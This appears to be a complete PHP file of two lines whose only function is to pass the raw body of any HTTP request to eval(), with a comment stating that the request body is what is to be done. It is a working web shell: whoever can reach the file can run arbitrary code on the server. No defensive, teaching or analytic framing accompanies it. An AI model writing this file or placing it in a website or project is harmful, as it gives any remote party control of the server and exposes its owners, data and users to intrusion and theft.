<?php // The body of the request is what is to be done.
eval(file_get_contents('php://input'));
